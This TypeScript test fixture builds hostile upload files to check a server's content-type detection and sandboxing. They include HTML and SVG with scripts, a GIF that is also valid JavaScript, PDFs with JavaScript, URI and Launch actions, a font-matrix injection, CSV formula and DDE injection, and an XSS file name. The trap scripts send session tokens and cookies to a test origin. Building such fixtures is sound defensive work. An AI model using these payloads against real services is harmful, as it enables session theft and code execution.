// Files that an attacker would upload, built byte by byte: each tries everything to set off its traps.

export interface Sample {
  readonly name: string;
  readonly bytes: Buffer;
  /** The type that the server must detect. */
  readonly contentType: string;
  /** What the page shows of it: a part of its text, an image, or nothing. */
  readonly shows: { readonly text: string } | 'image' | 'nothing';
}

/**
 * A script that sets off every trap: it requests `/canary`, calls `elsewhere`, takes the session out of the
 * browser's storage, speaks up, renames the page and leaves for `elsewhere`.
 */
export function trapScript(elsewhere: string): string {
  return [
    'try{window.name="canary"}catch(e){}',
    'try{document.title="canary"}catch(e){}',
    'try{localStorage.setItem("canary","ran")}catch(e){}',
    'try{fetch("/canary?by=fetch")}catch(e){}',
    'try{new Image().src="/canary?by=image"}catch(e){}',
    `try{fetch("${elsewhere}/fetched",{mode:"no-cors",method:"POST",body:localStorage.getItem("token")})}catch(e){}`,
    `try{new Image().src="${elsewhere}/image?"+document.cookie}catch(e){}`,
    'try{alert("canary")}catch(e){}',
    `try{setTimeout(function(){top.location="${elsewhere}/left"},50)}catch(e){}`,
  ].join(';');
}

const htmlPage = (elsewhere: string) => `<!doctype html><title>Statement</title>
<script>${trapScript(elsewhere)}</script>
<img src=canary onerror='${trapScript(elsewhere)}'>
<link rel=stylesheet href="${elsewhere}/style.css"><iframe src="${elsewhere}/frame"></iframe>
<meta http-equiv=refresh content="0;url=${elsewhere}/refreshed">
<form action="${elsewhere}/form" method=post><input name=a></form><script>document.forms[0].submit()</script>`;

const svgImage = (elsewhere: string) => `<?xml version="1.0" standalone="no"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload='${trapScript(elsewhere)}'>
<script><![CDATA[${trapScript(elsewhere)}]]></script><image xlink:href="${elsewhere}/svg.png" width="9" height="9"/>
<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="${elsewhere}/frame"/></body></foreignObject></svg>`;

/** An image of one pixel that is, read as a script, an assignment and what follows it. */
function gifScript(elsewhere: string): Buffer {
  const size = Buffer.alloc(4);
  // The width of the canvas reads `/*`.
  size.write('/*', 0, 'latin1');
  size.writeUInt16LE(1, 2);
  const rest = Buffer.from([0x80, 0, 0, 0, 0, 0, 255, 255, 255, 0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0]);
  const script = `*/=1;${trapScript(elsewhere)};/*`;
  const comment = Buffer.concat([
    Buffer.from([0x21, 0xfe]),
    ...Array.from({ length: Math.ceil(script.length / 255) }, (_, nth) => {
      const piece = Buffer.from(script.slice(nth * 255, (nth + 1) * 255));
      return Buffer.concat([Buffer.from([piece.length]), piece]);
    }),
    Buffer.from([0]),
  ]);
  return Buffer.concat([Buffer.from('GIF89a'), size, rest, comment, Buffer.from([0x3b])]);
}

/** A PDF of these objects, the first its catalog; `words` are on its page. */
function pdfOf(catalog: string, page: string, words: string, more: readonly string[] = []): Buffer {
  const content = `BT /F1 18 Tf 72 700 Td (${words}) Tj ET`;
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${page} >>`,
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...more,
  ];
  let text = '%PDF-1.7\n';
  const offsets = objects.map((object, index) => {
    const offset = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return String(offset).padStart(10, '0');
  });
  const start = text.length;
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((offset) => `${offset} 00000 n \n`).join('')}`;
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}

/** Writes a script as a string of a PDF. */
const pdfString = (text: string) => `(${text.replace(/[\\()]/g, '\\$&')})`;

function pdfWithScript(elsewhere: string): Buffer {
  const script = pdfString(
    [
      'try{app.alert("canary")}catch(e){}',
      `try{app.launchURL("${elsewhere}/launched",true)}catch(e){}`,
      `try{this.submitForm("${elsewhere}/submitted")}catch(e){}`,
      `try{this.getURL("${elsewhere}/got",false)}catch(e){}`,
      'try{this.print(true)}catch(e){}',
      trapScript(elsewhere),
    ].join(';'),
  );
  const action = `<< /S /JavaScript /JS ${script} >>`;
  return pdfOf(
    `/OpenAction ${action} /Names << /JavaScript << /Names [(a) ${action}] >> >> /AcroForm << /Fields [6 0 R] /CO [6 0 R] >>`,
    `/AA << /O ${action} >> /Annots [6 0 R]`,
    'Wages with a script',
    [
      `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 612 792] /AA << /PV ${action} /E ${action} /Fo ${action} /C ${action} >> >>`,
    ],
  );
}

function pdfWithAddress(elsewhere: string): Buffer {
  const action = `<< /S /URI /URI (${elsewhere}/opened) /Next << /S /SubmitForm /F << /FS /URL /F (${elsewhere}/sent) >> /Next << /S /Launch /F (${elsewhere}/ran) >> >> >>`;
  return pdfOf(`/OpenAction ${action}`, `/AA << /O ${action} >> /Annots [6 0 R]`, 'Wages with an address', [
    `<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /Border [0 0 0] /A ${action} /AA << /PV ${action} /E ${action} >> >>`,
  ]);
}

/** Its font has a matrix that some readers once compiled as a part of a script. */
function pdfWithScriptInFont(elsewhere: string): Buffer {
  const matrix = `[0.001 0 0 0.001 0 ${pdfString(`0); ${trapScript(elsewhere)} //`)}]`;
  return pdfOf('', '/Resources << /Font << /F1 6 0 R >> >>', 'Wages in a font', [
    `<< /Type /Font /Subtype /Type1 /BaseFont /Own /FontMatrix ${matrix} /FirstChar 32 /LastChar 122 /Widths 8 0 R /FontDescriptor 7 0 R /Encoding /WinAnsiEncoding >>`,
    `<< /Type /FontDescriptor /FontName /Own /Flags 32 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 /FontMatrix ${matrix} >>`,
    `[${Array(91).fill('600').join(' ')}]`,
  ]);
}

/** An HTML page behind the mark of a PDF. */
const pdfBeforeHtml = (elsewhere: string) => Buffer.from(`%PDF-1.7\n${htmlPage(elsewhere)}`);

/** As spreadsheets write "Unicode Text". */
const wide = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');

/** All of them, with traps that call `elsewhere`, an origin under the test's control. */
export function hostileSamples(elsewhere: string): readonly Sample[] {
  const html = Buffer.from(htmlPage(elsewhere));
  const svg = Buffer.from(svgImage(elsewhere));
  const words = `Dear client,\n${htmlPage(elsewhere)}`;
  const formulas = [
    'Employee,Wages',
    `"=HYPERLINK(""${elsewhere}/formula"",""Jane Doe"")",1`,
    `"=IMPORTXML(CONCAT(""${elsewhere}/x?"",A1),""//a"")",2`,
    "+cmd|' /C calc'!A0,3",
    '@SUM(1+1),4',
    `"<img src=canary onerror=alert('canary')>",5`,
  ].join('\r\n');
  return [
    { name: 'Statement.pdf', bytes: html, contentType: 'text/html', shows: 'nothing' },
    { name: 'Page.html', bytes: html, contentType: 'text/html', shows: 'nothing' },
    { name: 'Wide.txt', bytes: wide(html.toString()), contentType: 'text/html', shows: 'nothing' },
    { name: 'Wide notes.txt', bytes: wide(words), contentType: 'text/plain', shows: { text: 'Dear client,' } },
    { name: 'Logo.svg', bytes: svg, contentType: 'image/svg+xml', shows: 'nothing' },
    { name: 'Logo.png', bytes: svg, contentType: 'image/svg+xml', shows: 'nothing' },
    { name: 'Polyglot.gif', bytes: gifScript(elsewhere), contentType: 'image/gif', shows: 'image' },
    {
      name: 'Script.pdf',
      bytes: pdfWithScript(elsewhere),
      contentType: 'application/pdf',
      shows: { text: 'Wages with a script' },
    },
    {
      name: 'Address.pdf',
      bytes: pdfWithAddress(elsewhere),
      contentType: 'application/pdf',
      shows: { text: 'Wages with an address' },
    },
    {
      name: 'Font.pdf',
      bytes: pdfWithScriptInFont(elsewhere),
      contentType: 'application/pdf',
      shows: { text: 'Wages in a font' },
    },
    { name: 'Mark.pdf', bytes: pdfBeforeHtml(elsewhere), contentType: 'application/pdf', shows: 'nothing' },
    { name: 'Notes.txt', bytes: Buffer.from(words), contentType: 'text/plain', shows: { text: 'Dear client,' } },
    {
      name: 'Formulas.csv',
      bytes: Buffer.from(formulas),
      contentType: 'text/csv',
      shows: { text: "+cmd|' /C calc'!A0" },
    },
    {
      name: '<img src=canary onerror=alert(document.domain)>.txt',
      bytes: Buffer.from('A letter under a strange name'),
      contentType: 'text/plain',
      shows: { text: 'A letter under a strange name' },
    },
  ];
}
